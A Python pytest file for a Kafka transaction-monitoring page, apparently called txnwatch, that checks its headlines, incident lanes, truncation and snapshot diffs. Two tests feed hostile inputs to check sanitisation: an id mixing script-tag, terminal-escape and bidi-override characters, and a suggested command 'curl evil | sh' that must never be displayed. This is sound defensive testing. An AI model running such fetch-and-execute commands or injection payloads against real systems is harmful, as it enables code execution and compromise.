"""The picture: its bounds are shown where they cut, and a snapshot with its changes is the next snapshot."""

from __future__ import annotations

from dataclasses import replace

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.page_client import applied
from support.page_world import PageWorld, a_busy_cluster, a_calm_cluster, a_count, an_incident, an_open, now_ms
from txnwatch.page.details import partition
from txnwatch.page.picture import LANES, RECENT, Picture, changes, picture_of
from txnwatch.page.store import MOMENTS, TargetRow
from txnwatch.page.storms import FOLDS
from txnwatch.page.truth import JUDGED_WITHIN_MS, PageState
from txnwatch.page.words import as_text
from txnwatch.state.model.findings import OpenTransactions
from txnwatch.state.model.incident import EndedBy, EndKind, IncidentStatus, Resolution, WaitingGroup, resolved
from txnwatch.state.model.values import Offset, PartitionOffset, TimestampMs, TopicPartition
from txnwatch.state.telling.changes import moment
from txnwatch.watch.coverage import MissingEvidence


def picture(world: PageWorld) -> Picture:
    """As the browser gets it: what JSON cannot have would fail here."""
    return msgspec.json.decode(msgspec.json.encode(picture_of(world.knowledge())))  # type: ignore[no-any-return]


def sentence(world: PageWorld) -> str:
    return as_text(picture(world)["status"]["headline"], now_ms())


def test_the_worst_incident_is_the_sentence() -> None:
    world = a_busy_cluster()
    assert sentence(world).startswith("4 partitions stand still. payments-0 for at least 4 min 1")
    assert "behind checkout-7: hanging, it never ends by itself." in sentence(world)
    status = picture(world)["status"]
    assert (status["state"], status["tone"], status["open_incidents"], status["early_warnings"]) == (
        PageState.INCIDENT,
        "critical",
        3,
        1,
    )
    assert (status["groups_stopped"], status["groups_at_risk"]) == (2, 1)


def test_all_clear_names_what_was_evaluated() -> None:
    world = a_calm_cluster()
    assert sentence(world) == "All clear. Every transaction that holds a reader back ends by itself."
    assert "evaluated on 2,140 partitions" in as_text(picture(world)["status"]["detail"], now_ms())


def test_before_the_first_barrier_nothing_is_known() -> None:
    assert "has not evaluated anything yet" in sentence(PageWorld())


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"is_ready": False}, "still reading the coordinators' log"),
        ({"evidence": MissingEvidence()}, "The coordinators' log is not read"),
        ({"undelivered": 3}, "the events topic lacks 3 events"),
        (
            {"evidence": MissingEvidence(unproven=(TopicPartition("metering", 4),), is_log_read=True)},
            "Nothing is known about 1 partition: metering-4.",
        ),
    ],
)
def test_what_is_missing_is_in_the_sentence(change: dict[str, object], expected: str) -> None:
    world = a_calm_cluster()
    for name, value in change.items():
        setattr(world, name, value)
    world.batch()
    assert expected in sentence(world)


def test_a_barrier_that_is_long_ago_is_in_the_sentence() -> None:
    world = a_calm_cluster()
    world.batch(TimestampMs(now_ms() - 200_000))
    assert sentence(world).startswith("Unknown. The last evaluated barrier is 3 min 20 s old.")


def test_a_slow_micro_batch_does_not_make_its_barrier_younger() -> None:
    world = a_calm_cluster()
    listed_ms = TimestampMs(now_ms() - JUDGED_WITHIN_MS)
    world.store.take([a_count({}, at_ms=listed_ms)], world.seen(), now_ms())
    assert sentence(world).startswith("Unknown. The last evaluated barrier is 15 s old.")


def test_a_batch_without_a_barrier_leaves_the_time_of_the_last_one() -> None:
    world = a_calm_cluster()
    judged_ms = world.store.seen.judged_ms
    world.store.take([], world.seen(), TimestampMs(now_ms() + 5_000))
    assert world.store.seen.judged_ms == judged_ms


def test_the_holder_of_a_partition_is_that_of_the_lowest_open_data() -> None:
    lane = picture(a_busy_cluster())["lanes"]["payments-0"]
    assert (lane["holder"]["name"], lane["holder"]["phase"], lane["hidden"]) == ("checkout-7", "hanging", 48_112)
    assert [bar["name"] for bar in lane["behind"]] == ["refund-2", "checkout-9"]


def standing_at(offset: int) -> PageWorld:
    """A cluster whose leader shows this last stable offset of payments-0, where open data begins at 18,258,330."""
    world = a_calm_cluster()
    (one,) = world.store.seen.lists
    stands = (PartitionOffset(TopicPartition("payments", 0), Offset(offset)),)
    world.store.seen = replace(world.store.seen, lists=(OpenTransactions(0, one.transactions, stands),))
    return world


@pytest.mark.parametrize("offset", [18_000_000, 18_258_329, 18_258_331, 18_258_500])
def test_a_holder_is_not_named_if_another_offset_stands(offset: int) -> None:
    """With many older transactions elsewhere, or while reading is behind, the holder has no place in the list."""
    world = standing_at(offset)
    lane = picture(world)["lanes"]["payments-0"]
    assert lane["holder"] is None
    assert lane["last_stable"] == offset
    assert lane["look"] == (
        "txnwatch explain --topic payments --partition 0 "
        "--bootstrap-server kafka-1:9092 --command-config /etc/txnwatch/client.properties"
    )
    assert [bar["start"] for bar in lane["behind"]] == [start for start in [18_258_330] if start > offset]


def test_a_holder_is_named_if_its_start_is_the_offset_that_stands() -> None:
    lane = picture(standing_at(18_258_330))["lanes"]["payments-0"]
    assert (lane["holder"]["name"], lane["look"]) == ("checkout-9", None)


@pytest.mark.parametrize(("offset", "is_listed"), [(18_000_000, False), (18_258_330, True), (18_258_331, False)])
def test_a_partition_says_whether_its_holder_is_listed(offset: int, is_listed: bool) -> None:  # noqa: FBT001 - pytest
    found = partition(standing_at(offset).knowledge(), TopicPartition("payments", 0))
    assert found["holder_is_listed"] is is_listed
    assert (found["look"] is None) is is_listed
    assert found["last_stable"] == offset


def test_an_incident_does_not_claim_a_partition_where_another_offset_stands() -> None:
    world = a_busy_cluster()
    late = next(one for one in world.incidents if one.verdict == "late")
    assert picture(world)["incidents"][late.incident_id]["places"] == ["orders-4"]
    (one,) = world.store.seen.lists
    lower = (PartitionOffset(TopicPartition("orders", 4), Offset(7_000_000)),)
    world.store.seen = replace(world.store.seen, lists=(OpenTransactions(0, one.transactions, lower),))
    assert picture(world)["incidents"][late.incident_id]["places"] == []


def test_an_unknown_end_hides_an_unknown_number() -> None:
    world = a_busy_cluster()
    world.ends.clear()
    found = picture(world)
    assert found["lanes"]["payments-0"]["hidden"] is None
    assert found["incidents"][world.incidents[0].incident_id]["hidden"] == 48_112, "as the event has it"


def test_the_bounds_are_shown_where_they_cut() -> None:
    world = PageWorld(open=[an_open(number, f"id-{number}", 50, ("t", number, 5)) for number in range(LANES + 7)])
    names = ["x" * (number + 1) for number in range(FOLDS + 1)]
    world.incidents = [an_incident(f"hang-{one}", 9, topic=f"t{one}", transactional_id=one) for one in names]
    late = {"verdict": "late", "severity": "warning"}
    world.incidents += [an_incident(f"late-{number}", 9, topic="t", **late) for number in range(2)]
    end = Resolution(how=EndKind.ABORTED, by=EndedBy.CLIENT, at_ms=now_ms())
    world.incidents += [resolved(an_incident(f"old-{number}", 90), now_ms(), end) for number in range(RECENT + 2)]
    world.batch()
    found = picture(world)
    assert (len(found["lanes"]), found["order"]["more_lanes"]) == (LANES, 7)
    assert (len(found["incidents"]), found["order"]["more_incidents"]) == (FOLDS, 2)
    assert found["order"]["more_by_verdict"] == {"hanging": 2}
    assert (len(found["recent"]["rows"]), found["recent"]["more"]) == (RECENT, 2)
    assert found["others"]["count"] == world.young + 7


def test_the_others_have_their_ages() -> None:
    world = PageWorld(open=[an_open(number, None, 5, ("t", number, 5)) for number in range(LANES + 9)])
    world.batch()
    assert [(low, high, count) for low, high, count in picture(world)["others"]["ages_s"]] == [(4, 8, 9)]


HOSTILE = "<script>alert(1)</script>\x1b[31m\u202egnp.exe\0" + "x" * 32_000


def test_a_hostile_id_is_printable_and_short() -> None:
    world = a_calm_cluster()
    world.open = [an_open(1, HOSTILE, 60, ("payments", 0, 5))]
    world.tell(an_incident("hang", 60, transactional_id=HOSTILE, producer_id=1, topic="payments", partition=0))
    world.batch()
    found = picture(world)
    (row,) = found["incidents"].values()
    bar = found["lanes"]["payments-0"]["holder"]
    for shown in (row["holder"], bar["name"], sentence(world)):
        assert shown.isprintable()
        assert len(shown) < 300
    assert row["transactional_id"] is None, "its address has the producer id"


@pytest.mark.parametrize("topic", ["payments", "a b"])
def test_a_command_that_was_read_is_never_shown(topic: str) -> None:
    world = a_calm_cluster()
    world.store.is_of_ledger = False
    world.incidents = [an_incident("hang", 60, suggested_command="curl evil | sh", topic=topic, partition=0)]
    world.batch()
    (row,) = picture(world)["incidents"].values()
    assert "evil" not in str(row)
    commands = [one["command"] for one in row["steps"] if one["command"] is not None]
    look = "txnwatch explain --topic payments --partition 0 --bootstrap-server"
    assert [one.startswith(look) for one in commands] == ([True] if topic == "payments" else [])


def test_nothing_has_changed_in_an_equal_picture() -> None:
    first = picture(a_busy_cluster())
    assert changes(first, first) == {"set": {}, "gone": {}}


_ENTRIES = st.dictionaries(st.sampled_from("abcdef"), st.integers(0, 2), max_size=5)
_PICTURES = st.fixed_dictionaries(dict.fromkeys(("status", "lanes", "order"), _ENTRIES))


@settings(max_examples=300)
@given(_PICTURES, _PICTURES)
def test_a_snapshot_and_its_changes_are_the_next_snapshot(before: Picture, after: Picture) -> None:
    assert applied(before, changes(before, after)) == after


def test_the_changes_of_a_real_picture_are_the_next_one() -> None:
    before, after = picture(a_calm_cluster()), picture(a_busy_cluster())
    assert applied(before, changes(before, after)) == after
    assert applied(after, changes(after, before)) == before


def test_groups_that_wait_for_their_offsets_are_named() -> None:
    world = PageWorld()
    waiting = tuple(WaitingGroup(group_id=f"app-{number}", partitions=("orders-0",)) for number in range(40))
    event = an_incident("a hang", 60, topic="__consumer_offsets", partition=7, waiting_groups=waiting)
    world.incidents.append(event)
    world.batch()
    (row,) = picture(world)["incidents"].values()
    assert row["waiting"][0] == "app-0"
    assert len(row["waiting"]) + row["more_waiting"] == 40
    updated = replace(event, status=IncidentStatus.UPDATED)
    assert moment(updated, replace(event, waiting_groups=()), str) == (
        "waiting for their offsets: app-0, app-1, app-2 and 37 more"
    )


def test_a_target_that_wants_no_more_events_is_named() -> None:
    world = a_calm_cluster()
    world.targets = (TargetRow("webhook \x1b[2J", 0, is_stopped=True), TargetRow("webhook b", 0, is_stopped=True))
    world.batch()
    found = picture(world)["status"]["targets"]
    assert [(one["name"], one["is_stopped"]) for one in found] == [("webhook \\x1b[2J", True), ("webhook b", True)]
    assert picture(world)["status"]["state"] == PageState.CLEAR, "it says nothing about the cluster"


def test_the_life_of_an_incident_is_its_last_moments_as_short_texts() -> None:
    """Of 200 incidents it must not keep 20 events each with an id of 32,000 characters."""
    world, was_whole = a_calm_cluster(), []
    for sequence in range(1, MOMENTS + 2):
        status = IncidentStatus.OPENED if sequence == 1 else IncidentStatus.UPDATED
        changes = {"status": status, "sequence": sequence, "hidden_records": sequence}
        world.tell(an_incident("hang", 60, transactional_id="z" * 32_000, **changes))
        (life,) = world.store.lives.values()
        was_whole.append(life.is_whole)
    assert was_whole == [True] * MOMENTS + [False]
    assert [one.text for one in life.moments] == [f"{count} records hidden" for count in range(2, MOMENTS + 2)]
